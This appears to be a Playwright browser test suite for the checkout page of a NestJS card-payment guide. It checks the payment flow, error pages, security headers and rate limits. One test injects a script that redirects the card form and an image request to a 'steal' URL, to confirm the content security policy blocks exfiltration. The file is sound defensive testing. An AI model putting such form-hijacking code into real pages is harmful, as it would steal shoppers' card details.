import { readFileSync } from 'node:fs';
import { type INestApplication, type Type, ValidationPipe } from '@nestjs/common';
import { type AbstractHttpAdapter, NestFactory } from '@nestjs/core';
import { ExpressAdapter } from '@nestjs/platform-express';
import { FastifyAdapter } from '@nestjs/platform-fastify';
import { SMS_CODE } from 'nestjs-card-payment/simulator';
import type { Page } from 'playwright-core';
import { starterFiles } from '../package/guide.js';
import { GuideRecipes } from '../package/guide-recipes.js';
import { freePort } from '../services/server.js';
import { noteComplaints } from './browser.js';
import { useBrowser } from './shared-browser.js';

const PAGE = 'docs/getting-started.md';

const VALID = '4508034508034509';
const MISTYPED = '4508034508034508';

/** The application of Getting started, in a browser; on Fastify behind a strict pipe. */
describe.each([
  ['Express', () => new ExpressAdapter()],
  ['Fastify', () => new FastifyAdapter()],
])('the first page of the guide, on %s', (name, createAdapter: () => AbstractHttpAdapter) => {
  const recipes = new GuideRecipes(PAGE, starterFiles());
  const used = useBrowser();
  let app: INestApplication;
  let page: Page;
  let url: string;
  let order: string;
  let complaints: string[];

  beforeAll(async () => {
    for (const key of Object.keys(process.env)) if (key.startsWith('PAYMENT_')) delete process.env[key];
    const port = await freePort();
    url = `http://localhost:${port}`;
    Object.assign(process.env, { PAYMENT_BASE_URL: 'simulator:', PAYMENT_STORE_URL: 'memory:', PORT: String(port) });
    const { AppModule } = await recipes.load<{ AppModule: Type }>('src/app.module.ts');
    app = await NestFactory.create(AppModule, createAdapter(), { logger: false });
    if (name === 'Fastify') app.useGlobalPipes(new ValidationPipe({ whitelist: true, forbidNonWhitelisted: true }));
    await app.listen(port, 'localhost');
  });
  afterAll(async () => {
    await app.close();
    recipes.remove();
    for (const variable of ['PAYMENT_BASE_URL', 'PAYMENT_STORE_URL', 'PORT']) delete process.env[variable];
  });

  beforeEach(async () => {
    complaints = [];
    const context = await used.browser.newContext({ locale: 'en-GB' });
    // The console also shows an error for each page with an error status.
    noteComplaints(context, complaints, /status of 4/);
    page = await context.newPage();
    await page.goto(`${url}/checkout`);
    await page.getByRole('button', { name: 'Order for 149.90 TRY' }).click();
    await page.getByLabel('Card number').waitFor();
    order = page.url().replace(/\/pay$/, '');
  });
  afterEach(() => page.context().close());

  async function fillIn(cardNumber: string): Promise<void> {
    await page.getByLabel('Card number').fill(cardNumber);
    await page.getByLabel('Expiry').fill('12/36');
    await page.getByLabel('Code').fill('000');
    await page.getByLabel('Name').fill('Ada');
    await page.getByLabel('Phone').fill('905551112233');
    await page.getByRole('button', { name: 'Pay' }).click();
  }

  it('leads from the form to the bank and back, and its policies block nothing', async () => {
    await fillIn(VALID);
    await page.locator('[name="code"]').fill(SMS_CODE);
    await page.locator('button').first().click();
    await page.getByText('Paid. Thank you!').waitFor();
    expect(page.url().startsWith(`${order}?conversationId=`)).toBe(true);

    await page.goto(`${order}/pay`);
    await fillIn(VALID);
    await page.getByText('has been paid').waitFor();
    await page.getByRole('link', { name: 'Back to the shop' }).click();
    await page.getByRole('button', { name: 'Order for 149.90 TRY' }).waitFor();
    expect(complaints).toEqual([]);
  });

  it('shows the form again, without the card, and with a message beside the wrong field', async () => {
    const refused = page.waitForResponse((response) => response.request().method() === 'POST');
    await fillIn(MISTYPED);
    const headers = (await refused).headers();
    expect([(await refused).status(), headers['cache-control']]).toEqual([400, 'no-store']);
    expect(headers['content-security-policy']).toMatch(
      /^default-src 'none'; style-src 'sha256-\S{44}'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'$/,
    );
    const viewport = page.locator('meta[name="viewport"]');
    expect(await viewport.getAttribute('content')).toBe('width=device-width, initial-scale=1');
    await page.getByText('Card number has a mistyped digit').waitFor();
    const values = await Promise.all(
      ['Card number', 'Expiry', 'Code', 'Name', 'Phone'].map((label) => page.getByLabel(label).inputValue()),
    );
    expect(values).toEqual(['', '', '', 'Ada', '905551112233']);
    await fillIn(VALID);
    await page.locator('[name="code"]').waitFor();
    expect(complaints).toEqual([]);
  });

  it('answers an unknown order with a page in the buyer’s language', async () => {
    await page.goto(`${url}/checkout/1001`);
    await page.getByRole('heading', { name: 'This page cannot be shown' }).waitFor();
    const turkish = await fetch(`${url}/checkout/1001`, { headers: { accept: 'text/html', 'accept-language': 'tr' } });
    expect(await turkish.text()).toMatch(/<h1[^>]*>Bu sayfa gösterilemiyor/);
  });

  it('sends the card to no other host and runs no script, even if one is injected into the form', async () => {
    const refused = page.waitForEvent('console', { predicate: (message) => message.text().includes('form-action') });
    // As text, since it runs in the browser.
    const answered = await page.evaluate(`(async () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "run"';
      document.body.append(script);
      const form = document.querySelector('form');
      form.action = 'http://127.0.0.1:9/steal';
      form.noValidate = true;
      form.querySelector('button').click();
      const image = new Image();
      const isBlocked = new Promise((resolve) => image.addEventListener('error', () => resolve('blocked')));
      image.src = 'http://127.0.0.1:9/steal?card';
      return [document.title, await isBlocked];
    })()`);
    expect(answered).toEqual(['Payment', 'blocked']);
    expect(page.url()).toMatch(/\/pay$/);
    expect((await refused).text()).toContain("form-action 'self'");
  });

  it('shows no order by a number, and limits the orders and attempts of an address together', async () => {
    for (const guess of ['1', '1001', '00000000-0000-0000-0000-000000000000']) {
      expect((await fetch(`${url}/checkout/${guess}`)).status).toBe(404);
      expect((await fetch(`${url}/checkout/${guess}/pay`)).status).toBe(404);
    }
    const statuses = new Set<number>();
    for (let count = 0; count < 20; count += 1) {
      const headers = { 'x-forwarded-for': `203.0.113.${count}` };
      statuses.add((await fetch(page.url(), { method: 'POST', headers })).status);
    }
    expect([...statuses]).toEqual([400, 429]);
    expect((await fetch(`${url}/checkout`, { method: 'POST' })).status).toBe(429);
    await page.getByRole('button', { name: 'Pay' }).evaluate((button: { form: { noValidate: boolean } }) => {
      button.form.noValidate = true;
    });
    await page.getByRole('button', { name: 'Pay' }).click();
    await page.getByRole('link', { name: 'Back to the shop' }).waitFor();
    expect((await fetch(order)).status).toBe(200);
  });
});

it('no page of the guide sends a payment to a browser: the order’s page shows its state only', () => {
  const shop = starterFiles().filter(({ path }) => path?.endsWith('spec.ts') === false);
  expect([readFileSync(PAGE, 'utf8'), ...shop.map(({ code }) => code)].join('\n')).not.toMatch(
    /orders\/1001|payments: (?:Payment\[\]|await)/,
  );
});
